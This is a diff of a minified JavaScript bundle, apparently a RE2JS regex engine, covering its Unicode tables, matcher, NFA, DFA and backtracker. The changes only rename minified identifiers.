-if(t<tr)return Oc[t];const e=String.fromCodePoint(t).toLowerCase(),n=e.codePointAt(0)>xi?2:1;if(e.length>n)return t;const s=String.
+if(t<tr)return kc[t];const e=String.fromCodePoint(t).toLowerCase(),n=e.codePointAt(0)>xi?2:1;if(e.length>n)return t;const s=String.
 fromCodePoint(e.codePointAt(0)).toUpperCase(),r=s.codePointAt(0)>xi?2:1;return s.length>r||s.codePointAt(0)!==t?t:e.codePointAt(
 0)}},E=class{constructor(t,e=!1){this.data=t,this.isStride1=e,this.SIZE=e?2:3}getLo(t){return this.data[t*this.SIZE]}getHi(t){
 return this.data[t*this.SIZE+1]}getStride(t){return this.isStride1?1:this.data[t*this.SIZE+2]}get length(){return this.data.
-length/this.SIZE}};const BN="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",eg=new Uint8Array(256);for(let t=0;t<
-64;t++)eg[BN.charCodeAt(t)]=t;const tg=t=>{const e=[];let n=0,s=0;for(let r=0;r<t.length;r++){const i=eg[t.charCodeAt(r)];
-n|=(i&31)<<s,(i&32)===0?(e.push(n),n=0,s=0):s+=5}return e},k=(t,e)=>{const n=tg(t),s=e?n.length/2:n.length/3,r=new Uint32Array(
-s*3);let i=0,o=0;for(let a=0;a<s;a++)i+=n[o++],r[a*3]=i,i+=n[o++],r[a*3+1]=i,r[a*3+2]=e?1:n[o++];return r},fN=t=>{const e=tg(
+length/this.SIZE}};const BN="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",Xm=new Uint8Array(256);for(let t=0;t<
+64;t++)Xm[BN.charCodeAt(t)]=t;const Qm=t=>{const e=[];let n=0,s=0;for(let r=0;r<t.length;r++){const i=Xm[t.charCodeAt(r)];
+n|=(i&31)<<s,(i&32)===0?(e.push(n),n=0,s=0):s+=5}return e},k=(t,e)=>{const n=Qm(t),s=e?n.length/2:n.length/3,r=new Uint32Array(
+s*3);let i=0,o=0;for(let a=0;a<s;a++)i+=n[o++],r[a*3]=i,i+=n[o++],r[a*3+1]=i,r[a*3+2]=e?1:n[o++];return r},fN=t=>{const e=Qm(
 t),n=new Map;let s=0;for(let r=0;r<e.length;r+=2){s+=e[r];const i=e[r+1],o=i>>>1^-(i&1);n.set(s,s+o)}return n};var Oi=class{constructor(t){
 this.initializer=t,this.cache=new Map}has(t){return Object.hasOwn(this.initializer,t)}get(t){if(this.cache.has(t))return this.
 cache.get(t);const e=this.has(t)?this.initializer[t]():null;return this.cache.set(t,e),e}},It=class{static _CASE_ORBIT=null;static get CASE_ORBIT(){
@@ -6124,20 +6127,20 @@ getLo(0)&&xt.is32(e,n)}static isPrint(e){return e<=xt.MAX_LATIN1?e>=32&&e<xt.MAX
 if(It.CASE_ORBIT.has(e))return It.CASE_ORBIT.get(e);if(e<=xt.MAX_ASCII){const n=P.toLowerCase(e);return n!==e?n:P.toUpperCase(
 e)}return e}static equalsIgnoreCase(e,n){if(e===n)return!0;if(e<0||n<0)return!1;if(e<=xt.MAX_ASCII&&n<=xt.MAX_ASCII)return 65<=
 e&&e<=90&&(e|=32),65<=n&&n<=90&&(n|=32),e===n;for(let s=xt.simpleFold(e);s!==e;s=xt.simpleFold(s))if(s===n)return!0;return!1}},
-nr=class extends Error{constructor(t){super(t),this.name="RE2JSException"}},qe=class extends nr{constructor(t,e=null){let n=`\
+nr=class extends Error{constructor(t){super(t),this.name="RE2JSException"}},We=class extends nr{constructor(t,e=null){let n=`\
 error parsing regexp: ${t}`;e&&(n+=`: \`${e}\``),super(n),this.name="RE2JSSyntaxException",this.message=n,this.error=t,this.
 input=e}getDescription(){return this.error}getPattern(){return this.input}},sr=class extends nr{constructor(t){super(t),
-this.name="RE2JSCompileException"}},Dt=class extends nr{constructor(t){super(t),this.name="RE2JSGroupException"}},ng=class extends nr{constructor(t){
+this.name="RE2JSCompileException"}},Dt=class extends nr{constructor(t){super(t),this.name="RE2JSGroupException"}},eg=class extends nr{constructor(t){
 super(t),this.name="RE2JSFlagsException"}},Ai=class extends nr{constructor(t){super(t),this.name="RE2JSInternalException"}};
-const Ac=256,sg=new Uint8Array(Ac);for(let t=0;t<Ac;t++)sg[t]=97<=t&&t<=122||65<=t&&t<=90||48<=t&&t<=57||t===95?1:0;let Sc=null,
-Tc=null;var V=class dt{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
+const vc=256,tg=new Uint8Array(vc);for(let t=0;t<vc;t++)tg[t]=97<=t&&t<=122||65<=t&&t<=90||48<=t&&t<=57||t===95?1:0;let Dc=null,
+xc=null;var V=class dt{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
 return[]}static isString(e){return typeof e=="string"||Object.prototype.toString.call(e)==="[object String]"}static typeName(e){
 return e===null||typeof e!="object"&&typeof e!="function"?e===null?"null":typeof e:Object.prototype.toString.call(e).slice(
 8,-1)}static checkPattern(e){if(!dt.isString(e))throw new TypeError(`The pattern must be a string, not ${dt.typeName(e)}\
  (RE2JS.translateRegExp() converts a RegExp)`)}static checkInput(e){if(!dt.isString(e)&&!dt.isByteArray(e))throw new TypeError(
 `The input must be a string or a byte array (Uint8Array or number[]), not ${dt.typeName(e)}`)}static checkFlags(e){const n=Ct.
 MULTILINE|Ct.DOTALL|Ct.CASE_INSENSITIVE|Ct.DISABLE_UNICODE_GROUPS|Ct.LONGEST_MATCH|Ct.LOOKBEHINDS;if(!Number.isInteger(e)||
-(e&~n)!==0)throw new ng("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
+(e&~n)!==0)throw new eg("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
 PS, LONGEST_MATCH, LOOKBEHINDS")}static isByteArray(e){return Array.isArray(e)||Object.prototype.toString.call(e)==="[ob\
 ject Uint8Array]"}static isalnum(e){return P.CODES[0]<=e&&e<=P.CODES[9]||P.CODES.a<=e&&e<=P.CODES.z||P.CODES.A<=e&&e<=P.
 CODES.Z}static unhex(e){return P.CODES[0]<=e&&e<=P.CODES[9]?e-P.CODES[0]:P.CODES.a<=e&&e<=P.CODES.f?e-P.CODES.a+10:P.CODES.
@@ -6147,30 +6150,30 @@ break;case P.CODES["	"]:n+="\\t";break;case P.CODES[`
 `]:n+="\\n";break;case P.CODES["\r"]:n+="\\r";break;case P.CODES["\b"]:n+="\\b";break;case P.CODES["\f"]:n+="\\f";break;default:{
 let s=e.toString(16);e<256?(n+="\\x",s.length===1&&(n+="0"),n+=s):n+=`\\x{${s}}`;break}}return n}static stringToRunes(e){
 const n=String(e),s=[];let r=0;for(;r<n.length;){const i=n.codePointAt(r);s.push(i),r+=i>se.MAX_BMP?2:1}return new Int32Array(
-s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<Ac?sg[e]===1:!1}static emptyOpContext(e,n){
+s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<vc?tg[e]===1:!1}static emptyOpContext(e,n){
 let s=0;return e<0&&(s|=dt.EMPTY_BEGIN_TEXT|dt.EMPTY_BEGIN_LINE),e===10&&(s|=dt.EMPTY_BEGIN_LINE),n<0&&(s|=dt.EMPTY_END_TEXT|
 dt.EMPTY_END_LINE),n===10&&(s|=dt.EMPTY_END_LINE),dt.isWordRune(e)!==dt.isWordRune(n)?s|=dt.EMPTY_WORD_BOUNDARY:s|=dt.EMPTY_NO_WORD_BOUNDARY,
 s}static quoteMeta(e){return e.split("").map(n=>dt.METACHARACTERS.indexOf(n)>=0?`\\${n}`:n).join("")}static charCount(e){
 return e>se.MAX_BMP?2:1}static toArray(e){const n=e.length,s=new Array(n);for(let r=0;r<n;r++)s[r]=e[r];return s}static stringToUtf8ByteArray(e){
-if(globalThis.TextEncoder)return Sc||(Sc=new TextEncoder),Sc.encode(e);{let n=[],s=0;for(let r=0;r<e.length;r++){let i=e.
+if(globalThis.TextEncoder)return Dc||(Dc=new TextEncoder),Dc.encode(e);{let n=[],s=0;for(let r=0;r<e.length;r++){let i=e.
 charCodeAt(r);i<128?n[s++]=i:i<2048?(n[s++]=i>>6|192,n[s++]=i&63|128):(i&64512)===se.MIN_HIGH_SURROGATE&&r+1<e.length&&(e.
 charCodeAt(r+1)&64512)===se.MIN_LOW_SURROGATE?(i=se.MIN_SUPPLEMENTARY_CODE_POINT+((i&1023)<<10)+(e.charCodeAt(++r)&1023),
 n[s++]=i>>18|240,n[s++]=i>>12&63|128,n[s++]=i>>6&63|128,n[s++]=i&63|128):(n[s++]=i>>12|224,n[s++]=i>>6&63|128,n[s++]=i&63|
-128)}return n}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){Tc||(Tc=new TextDecoder("utf-8"));const n=e instanceof
-Uint8Array?e:new Uint8Array(e);return Tc.decode(n)}else{let n=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)n[r++]=
+128)}return n}}static utf8ByteArrayToString(e){if(globalThis.TextDecoder){xc||(xc=new TextDecoder("utf-8"));const n=e instanceof
+Uint8Array?e:new Uint8Array(e);return xc.decode(n)}else{let n=[],s=0,r=0;for(;s<e.length;){let i=e[s++];if(i<128)n[r++]=
 String.fromCharCode(i);else if(i>191&&i<224){let o=e[s++];n[r++]=String.fromCharCode((i&31)<<6|o&63)}else if(i>239&&i<365){
 let o=e[s++],a=e[s++],c=e[s++],u=((i&7)<<18|(o&63)<<12|(a&63)<<6|c&63)-se.MIN_SUPPLEMENTARY_CODE_POINT;n[r++]=String.fromCharCode(
 se.MIN_HIGH_SURROGATE+(u>>10)),n[r++]=String.fromCharCode(se.MIN_LOW_SURROGATE+(u&1023))}else{let o=e[s++],a=e[s++];n[r++]=
-String.fromCharCode((i&15)<<12|(o&63)<<6|a&63)}}return n.join("")}}};const rg=(t=[],e=0)=>{const n=Object.create(null);for(let s=0;s<
-t.length;s++){const r=t[s],i=e+s;n[r]=i,n[i]=r}return Object.freeze(n)};var Kn=class qc{static Encoding=rg(["UTF_16","UT\
+String.fromCharCode((i&15)<<12|(o&63)<<6|a&63)}}return n.join("")}}};const ng=(t=[],e=0)=>{const n=Object.create(null);for(let s=0;s<
+t.length;s++){const r=t[s],i=e+s;n[r]=i,n[i]=r}return Object.freeze(n)};var Kn=class Jc{static Encoding=ng(["UTF_16","UT\
 F_8"]);getEncoding(){throw Error("not implemented")}asCharSequence(){throw Error("not implemented")}asBytes(){throw Error(
-"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===qc.Encoding.UTF_8}isUTF16Encoding(){
-return this.getEncoding()===qc.Encoding.UTF_16}},ig=class extends Kn{constructor(t=null){super(),this.bytes=t}getEncoding(){
+"not implemented")}length(){throw Error("not implemented")}isUTF8Encoding(){return this.getEncoding()===Jc.Encoding.UTF_8}isUTF16Encoding(){
+return this.getEncoding()===Jc.Encoding.UTF_16}},sg=class extends Kn{constructor(t=null){super(),this.bytes=t}getEncoding(){
 return Kn.Encoding.UTF_8}asCharSequence(){return V.utf8ByteArrayToString(this.bytes)}asBytes(){return this.bytes}length(){
 return this.bytes.length}},hN=class extends Kn{constructor(t=null){super(),this.charSequence=t}getEncoding(){return Kn.Encoding.
 UTF_16}asCharSequence(){return this.charSequence}asBytes(){return V.stringToUtf8ByteArray(this.charSequence.toString())}length(){
-return this.charSequence.length}},Wn=class{static utf16(t){return V.checkInput(t),new hN(t)}static utf8(t){return V.isByteArray(
-t)?new ig(t):new ig(V.stringToUtf8ByteArray(t))}},_t=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
+return this.charSequence.length}},qn=class{static utf16(t){return V.checkInput(t),new hN(t)}static utf8(t){return V.isByteArray(
+t)?new sg(t):new sg(V.stringToUtf8ByteArray(t))}},_t=class{static EOF(){return-8}constructor(){this.start=0,this.end=0}canCheckPrefix(){
 return!0}endPos(){return this.end-this.start}hasString(){return!1}hasAnyString(){return!1}prefixLength(){return 0}},pN=class ws extends _t{static RUNE_ERROR_STEP=se.
 RUNE_ERROR<<3|1;constructor(e,n=0,s=e.length){super(),this.bytes=e,this.start=n,this.end=s}hasString(e,n){const s=e.bytes;
 if(s.length===0)return!0;const r=this.indexOf(this.bytes,s,this.start+n);return r!==-1&&r<=this.end-s.length}hasAnyString(e,n){
@@ -6195,16 +6198,16 @@ EOF();const e=this.charSequence.charCodeAt(t);if(e<se.MIN_HIGH_SURROGATE||e>se.M
 indexOf(t.prefix,e);return n<0||n>this.end-t.prefix.length?-1:n-e}context(t){t+=this.start;const e=t>this.start&&t<=this.
 end?this.charSequence.charCodeAt(t-1):-1,n=t<this.end?this.charSequence.charCodeAt(t):-1;return V.emptyOpContext(e,n)}prefixLength(t){
 return t.prefix.length}},Je=class{static fromUTF8(t,e=0,n=t.length){return new pN(t,e,n)}static fromUTF16(t,e=0,n=void 0){
-return V.checkInput(t),new mN(t,e,n??t.length)}},og=class xC{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,n=!1){
+return V.checkInput(t),new mN(t,e,n??t.length)}},rg=class vC{static MAX_REPLACER_ARGS=65535;static quoteReplacement(e,n=!1){
 return n?e.indexOf("\\")<0&&e.indexOf("$")<0?e:e.split("").map(s=>{const r=s.codePointAt(0);return r===P.CODES["\\"]||r===
 P.CODES.$?`\\${s}`:s}).join(""):e.indexOf("$")<0?e:e.split("").map(s=>s.codePointAt(0)===P.CODES.$?"$$":s).join("")}constructor(e,n){
 if(e===null)throw new Error("pattern is null");this.patternInput=e;const s=this.patternInput.re2();this.patternGroupCount=
 s.numberOfCapturingGroups(),this.groups=[],this.namedGroups=s.namedGroups,this.hasNamedGroups=Object.keys(this.namedGroups).
 length>0,this.numberOfInstructions=s.numberOfInstructions(),this.lookbehindState=null,n instanceof Kn?this.resetMatcherInput(
-n):V.isByteArray(n)?this.resetMatcherInput(Wn.utf8(n)):this.resetMatcherInput(Wn.utf16(n))}pattern(){return this.patternInput}reset(){
+n):V.isByteArray(n)?this.resetMatcherInput(qn.utf8(n)):this.resetMatcherInput(qn.utf16(n))}pattern(){return this.patternInput}reset(){
 return this.matcherInputLength=this.matcherInput.length(),this.appendPos=0,this.hasMatch=!1,this.hasGroups=!1,this.anchorFlag=
-0,this}resetMatcherInput(e){if(e===null)throw new Error("input is null");return e instanceof Kn||(V.isByteArray(e)?e=Wn.
-utf8(e):e=Wn.utf16(e)),this.matcherInput=e,this.lookbehindState!==null?this.lookbehindState.reset():this.lookbehindState=
+0,this}resetMatcherInput(e){if(e===null)throw new Error("input is null");return e instanceof Kn||(V.isByteArray(e)?e=qn.
+utf8(e):e=qn.utf16(e)),this.matcherInput=e,this.lookbehindState!==null?this.lookbehindState.reset():this.lookbehindState=
 this.patternInput.re2().createLookbehindState(),this.reset(),this}start(e=0){if(typeof e=="string"){const n=this.namedGroups[e];
 if(!Number.isFinite(n))throw new Dt(`group '${e}' not found`);e=n}return this.loadGroup(e),this.groups[2*e]}end(e=0){if(typeof e==
 "string"){const n=this.namedGroups[e];if(!Number.isFinite(n))throw new Dt(`group '${e}' not found`);e=n}return this.loadGroup(
@@ -6243,7 +6246,7 @@ group(u);d!==null&&(r+=d)}else r+=e.substring(i,i+1+c);i+=1+c}else if(a===P.CODE
 ">",i+2);if(c<0)r+="$<",i+=2;else{const u=e.substring(i+2,c);if(Object.hasOwn(this.namedGroups,u)){const l=this.group(u);
 l!==null&&(r+=l)}i=c+1}}else r+="$",i+=1}return r+e.substring(i)}appendTail(){return this.substring(this.appendPos,this.
 matcherInputLength)}replaceAll(e,n=!1){return this.replace(e,!0,n)}replaceFirst(e,n=!1){return this.replace(e,!1,n)}replace(e,n=!0,s=!1){
-let r="";this.reset();const i=typeof e=="function";let o=null;if(i){if(this.groupCount()>=xC.MAX_REPLACER_ARGS)throw new Dt(
+let r="";this.reset();const i=typeof e=="function";let o=null;if(i){if(this.groupCount()>=vC.MAX_REPLACER_ARGS)throw new Dt(
 "Too many capture groups to safely invoke replacer function");o=this.matcherInput.isUTF8Encoding()?this.matcherInput.asBytes():
 this.matcherInput.asCharSequence()}for(;this.find()&&(r+=i?this.appendReplacementFunc(e,o):this.appendReplacement(e,s),!!n);)
 ;return r+=this.appendTail(),r}appendReplacementFunc(e,n){let s="";const r=this.start(),i=this.end();this.appendPos<r&&(s+=
@@ -6267,15 +6270,15 @@ LB_WRITE:return`lbwrite ${this.arg} -> ${this.out}`;case Bt.LB_CHECK:return`lbch
 RUNE:return this.runes===null?"rune <null>":["rune ",Bt.escapeRunes(this.runes),(this.arg&L.FOLD_CASE)!==0?"/i":""," -> ",
 this.out].join("");case Bt.RUNE1:return`rune1 ${Bt.escapeRunes(this.runes)} -> ${this.out}`;case Bt.RUNE_ANY:return`any \
 -> ${this.out}`;case Bt.RUNE_ANY_NOT_NL:return`anynotnl -> ${this.out}`;default:throw new Error("unhandled case in Inst.\
-toString")}}},ag=class OC{constructor(e){this.sparse=new Int32Array(e),this.densePcs=new Int32Array(e),this.denseCaps=null,
+toString")}}},ig=class DC{constructor(e){this.sparse=new Int32Array(e),this.densePcs=new Int32Array(e),this.denseCaps=null,
 this.size=0,this.ncap=0,this.mainThreads=0}static INITIAL_THREADS=32;init(e){this.ncap=e;const n=Math.min(this.densePcs.
-length,OC.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<n)&&(this.denseCaps=new Int32Array(n))}growCaps(e){
+length,DC.INITIAL_THREADS)*e;(!this.denseCaps||this.denseCaps.length<n)&&(this.denseCaps=new Int32Array(n))}growCaps(e){
 const n=this.densePcs.length*this.ncap,s=new Int32Array(Math.min(n,Math.max(e,2*this.denseCaps.length)));s.set(this.denseCaps),
 this.denseCaps=s}contains(e){const n=this.sparse[e];return n<this.size&&this.densePcs[n]===e}isEmpty(){return this.size===
 0}add(e){const n=this.size++;return this.sparse[e]=n,this.densePcs[n]=e,n}clear(){this.size=0,this.mainThreads=0}toString(){
 let e="{";for(let n=0;n<this.size;n++)n!==0&&(e+=", "),e+=this.densePcs[n];return e+="}",e}},gN=class{constructor(t){this.
 pos=-1,this.pcs=new Int32Array(t.numInst()),this.size=0,this.lbTable=new Int32Array(t.numLb+1)}reset(){this.pos=-1,this.
-size=0}},cg=class AC{static fromRE2(e){const n=new AC;return n.prog=e.prog,n.re2=e,n.q0=new ag(n.prog.numInst()),n.q1=new ag(
+size=0}},og=class xC{static fromRE2(e){const n=new xC;return n.prog=e.prog,n.re2=e,n.q0=new ig(n.prog.numInst()),n.q1=new ig(
 n.prog.numInst()),n.addStack=new Int32Array(2*(n.prog.numInst()+1)),n.matched=!1,n.matchcap=new Int32Array(n.prog.numCap<
 2?2:n.prog.numCap),n.ncap=0,n}constructor(){this.prog=null,this.re2=null,this.q0=null,this.q1=null,this.addStack=null,this.
 matched=!1,this.matchcap=null,this.ncap=0,this.lbTable=null}init(e){this.ncap=e,e>this.matchcap.length?this.matchcap=new Int32Array(
@@ -6318,9 +6321,9 @@ RUNE1:case T.RUNE_ANY:case T.RUNE_ANY_NOT_NL:if(this.prog.lbInst[n]===0&&e.mainT
 B+this.ncap>e.denseCaps.length&&e.growCaps(B+this.ncap);for(let f=0;f<this.ncap;f++)e.denseCaps[B+f]=r[i+f]}n=0;break;default:
 throw new Ai("unhandled")}}if(c===0)return;c-=2;const u=a[c];u<0?(r[i-u-1]=a[c+1],n=0):n=u}}};const CN=(t,e,n)=>{let s=-2128831035;
 for(let r=0;r<t.length;r++)s^=t[r],s=Math.imul(s,16777619);s^=e,s=Math.imul(s,16777619);for(let r=0;r<n.length;r++)s^=n[r],
-s=Math.imul(s,16777619);return s},ug=(t,e)=>{if(t.length!==e.length)return!1;for(let n=0;n<t.length;n++)if(t[n]!==e[n])return!1;
-return!0},lg=(t,e,n,s)=>t.flag===n&&ug(t.nfaStates,e)&&ug(t.matchIDs,s),Ic=[],rr=-1;var Si=class{constructor(t,e,n){this.
-nfaStates=t,this.flag=e,this.isMatch=(e&$c.FLAG_MATCH)!==0,this.matchIDs=n,this.next=null,this.nextAnchored=null}},$c=class ft{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,n=8388608){
+s=Math.imul(s,16777619);return s},ag=(t,e)=>{if(t.length!==e.length)return!1;for(let n=0;n<t.length;n++)if(t[n]!==e[n])return!1;
+return!0},cg=(t,e,n,s)=>t.flag===n&&ag(t.nfaStates,e)&&ag(t.matchIDs,s),Oc=[],rr=-1;var Si=class{constructor(t,e,n){this.
+nfaStates=t,this.flag=e,this.isMatch=(e&Ac.FLAG_MATCH)!==0,this.matchIDs=n,this.next=null,this.nextAnchored=null}},Ac=class ft{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,n=8388608){
 this.prog=e,this.maxMem=n,this.stateCache=new Map,this.stateCount=0,this.startStates=new Map,this.failed=!1;for(let s=0;s<
 e.numInst();s++){const r=e.getInst(s).op;if(r===T.LB_WRITE||r===T.LB_CHECK){this.failed=!0;break}}this.computeRuneClasses(),
 this.stateBudget=n,this.memBudget=n}computeRuneClasses(){const e=new Set,n=(r,i)=>{e.add(r),e.add(i+1)};for(let r=0;r<this.
@@ -6335,7 +6338,7 @@ for(;s<r;){const i=s+r>>1;n[i]<=e?s=i+1:r=i}return s}closure(e,n){const s=new Se
 0;){const o=r.pop();if(o===0||s.has(o))continue;s.add(o);const a=this.prog.getInst(o);switch(a.op){case T.ALT:case T.ALT_MATCH:
 r.push(a.out),r.push(a.arg);break;case T.NOP:case T.CAPTURE:r.push(a.out);break;case T.EMPTY_WIDTH:i|=a.arg,(a.arg&~n)===
 0&&r.push(a.out)}}return{pcs:Array.from(s).sort((o,a)=>o-a),needflags:i}}getState(e,n,s){const r=CN(e,n,s),i=this.stateCache.
-get(r);if(i instanceof Si){if(lg(i,e,n,s))return i}else if(i!==void 0){for(let c=0;c<i.length;c++)if(lg(i[c],e,n,s))return i[c]}
+get(r);if(i instanceof Si){if(cg(i,e,n,s))return i}else if(i!==void 0){for(let c=0;c<i.length;c++)if(cg(i[c],e,n,s))return i[c]}
 const o=ft.stateCost(e,s);if(this.memBudget<o)return null;this.memBudget-=o;const a=new Si(e,n,s);return i===void 0?this.
 stateCache.set(r,a):i instanceof Si?this.stateCache.set(r,[i,a]):i.push(a),this.stateCount++,a}static stateCost(e,n){const s=n.
 length===0?0:ft.ARRAY_OVERHEAD+ft.ELEMENT_SIZE*n.length;return ft.STATE_OVERHEAD+ft.ELEMENT_SIZE*e.length+s}*cachedStates(){
@@ -6348,13 +6351,13 @@ e.flag,e.matchIDs)}step(e,n,s,r){let i=r===L.UNANCHORED?e.next:e.nextAnchored;if
 this.allocTable(e,r),i===null)return null;const o=e.flag>>>ft.FLAG_NEED_SHIFT,a=e.flag&ft.FLAG_EMPTY_MASK;let c=a,u=0;s===
 10&&(c|=V.EMPTY_END_LINE,u|=V.EMPTY_BEGIN_LINE),s===rr&&(c|=V.EMPTY_END_LINE|V.EMPTY_END_TEXT);const l=(e.flag&ft.FLAG_LAST_WORD)!==
 0,d=s!==rr&&V.isWordRune(s);c|=d===l?V.EMPTY_NO_WORD_BOUNDARY:V.EMPTY_WORD_BOUNDARY;let B=e.nfaStates;(c&~a&o)!==0&&(B=this.
-closure(B,c).pcs);const f=[];let h=!1,m=Ic;for(let b=0;b<B.length;b++){const y=this.prog.getInst(B[b]);y.op===T.MATCH?(h||
+closure(B,c).pcs);const f=[];let h=!1,m=Oc;for(let b=0;b<B.length;b++){const y=this.prog.getInst(B[b]);y.op===T.MATCH?(h||
 (h=!0,m=[]),m.push(y.arg)):s!==rr&&T.isRuneOp(y.op)&&y.matchRune(s)&&f.push(y.out)}m.length>1&&m.sort((b,y)=>b-y),r===L.
 UNANCHORED&&s!==rr&&f.push(this.prog.start);let g=u;h&&(g|=ft.FLAG_MATCH),d&&(g|=ft.FLAG_LAST_WORD);const C=this.makeState(
 f,g,m);return C===null?null:(i[n]=C,C)}start(e,n){const s=e.context(n);let r;if((s&V.EMPTY_BEGIN_TEXT)!==0)r=V.EMPTY_BEGIN_TEXT|
 V.EMPTY_BEGIN_LINE;else if((s&V.EMPTY_BEGIN_LINE)!==0)r=V.EMPTY_BEGIN_LINE;else{const o=e.step(n),a=o>=0&&V.isWordRune(o>>
 3);r=(s&V.EMPTY_WORD_BOUNDARY)!==0!==a?ft.FLAG_LAST_WORD:0}let i=this.startStates.get(r);if(i===void 0){if(i=this.makeState(
-[this.prog.start],r,Ic),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,Ic),i===null))return null;this.
+[this.prog.start],r,Oc),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,Oc),i===null))return null;this.
 startStates.set(r,i)}return i}stepOrReset(e,n,s,r,i,o){let a=this.step(e,n,s,r);if(a!==null)return a;if(o.resetPos>=0&&i-
 o.resetPos<ft.PROGRESS_PER_STATE*this.stateCount)return null;o.resetPos=i;const c=this.resetCache(e);return c===null?null:
 (a=this.step(c,n,s,r),a)}run(e,n,s,r,i){const o=e.endPos(),a=this.latin1Class,c=s===L.UNANCHORED,u={resetPos:-1};let l=n;
@@ -6365,9 +6368,9 @@ i(r,!0)}match(e,n,s){if(this.failed)return null;if((s===L.ANCHOR_START||s===L.AN
 start(e,n);return r===null?null:this.run(e,n,s,r,(i,o)=>s!==L.ANCHOR_BOTH||o)}matchSet(e,n,s){if(this.failed)return null;
 if((s===L.ANCHOR_START||s===L.ANCHOR_BOTH)&&n!==0)return[];const r=this.start(e,n);if(r===null)return null;const i=new Set,
 o=(a,c)=>{if(s!==L.ANCHOR_BOTH||c)for(let u=0;u<a.matchIDs.length;u++)i.add(a.matchIDs[u]);return!1};return this.run(e,n,
-s,r,o)===null?null:Array.from(i).sort((a,c)=>a-c)}};const yN=32,wN=500,Rc=256,bN=262144;var _N=class{constructor(){this.
-end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Rc),this.jobArg=new Uint8Array(
-Rc),this.jobPos=new Int32Array(Rc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(t,e,n){this.end=e,this.jobLen=0,this.
+s,r,o)===null?null:Array.from(i).sort((a,c)=>a-c)}};const yN=32,wN=500,Sc=256,bN=262144;var _N=class{constructor(){this.
+end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Sc),this.jobArg=new Uint8Array(
+Sc),this.jobPos=new Int32Array(Sc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(t,e,n){this.end=e,this.jobLen=0,this.
 ncap=n;const s=t.numInst()*(e+1)+yN-1>>>5;this.visited.length<s?this.visited=new Uint32Array(s):this.visited.fill(0,0,s),
 this.cap.length<n?this.cap=new Int32Array(n).fill(-1):this.cap.fill(-1,0,n),this.matchcap.length<n?this.matchcap=new Int32Array(
 n).fill(-1):this.matchcap.fill(-1,0,n)}shouldVisit(t,e){const n=t*(this.end+1)+e,s=n>>>5,r=1<<(n&31);return(this.visited[s]&
@@ -6387,14 +6390,14 @@ continue}case T.EMPTY_WIDTH:{const d=e.context(c);if((l.arg&~d)!==0)break;o=l.ou
 MATCH:{if(r===L.ANCHOR_BOTH&&c!==this.end)break;if(this.ncap===0)return!0;this.ncap>1&&(this.cap[1]=c);const d=this.matchcap[1];
 if((d===-1||i&&c>0&&c>d)&&this.matchcap.set(this.cap),!i||c===this.end)return!0;break}case T.LB_WRITE:case T.LB_CHECK:throw new Ai(
 "Backtracker cannot evaluate Lookbehind instructions");default:throw new Ai("bad inst")}break}}return i&&this.matchcap.length>
-1&&this.matchcap[1]>=0}};const Ti=[];var Ii=class SC{static shouldBacktrack(e){return e.numInst()<=wN}static maxBitStateLen(e){
-return SC.shouldBacktrack(e)?Math.floor(bN/e.numInst()):0}static execute(e,n,s,r,i){const o=e.cond;if(o===V.EMPTY_ALL||(r===
+1&&this.matchcap[1]>=0}};const Ti=[];var Ii=class OC{static shouldBacktrack(e){return e.numInst()<=wN}static maxBitStateLen(e){
+return OC.shouldBacktrack(e)?Math.floor(bN/e.numInst()):0}static execute(e,n,s,r,i){const o=e.cond;if(o===V.EMPTY_ALL||(r===
 L.ANCHOR_START||r===L.ANCHOR_BOTH)&&s!==0||(o&V.EMPTY_BEGIN_TEXT)!==0&&s!==0)return null;const a=Ti.length>0?Ti.pop():new _N,
 c=n.endPos();a.reset(e.prog,c,i);let u=!1;if((o&V.EMPTY_BEGIN_TEXT)!==0||r===L.ANCHOR_START||r===L.ANCHOR_BOTH)a.ncap>0&&
 (a.cap[0]=s),a.tryBacktrack(e,n,e.prog.start,s,r)&&(u=!0);else{let d=-1;for(;s<=c&&d!==0;s+=d){if(e.prefix.length>0){const f=n.
